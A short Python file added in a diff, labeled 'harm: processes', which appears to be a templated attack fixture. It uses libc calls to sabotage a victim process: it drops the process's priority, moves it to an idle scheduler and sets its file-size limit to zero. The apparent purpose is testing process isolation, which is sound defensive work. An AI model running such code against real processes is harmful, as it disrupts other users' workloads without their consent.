@@ -1,0 +1,11 @@
+# harm: processes
+import ctypes
+
+libc = ctypes.CDLL(None)
+VICTIM = @VICTIM@
+
+
+def attack() -> int:
+    libc.setpriority(0, VICTIM, 19)
+    libc.sched_setscheduler(VICTIM, 5, ctypes.byref(ctypes.c_int(0)))
+    return libc.prlimit(VICTIM, 1, (ctypes.c_uint64 * 2)(0, 0), None)
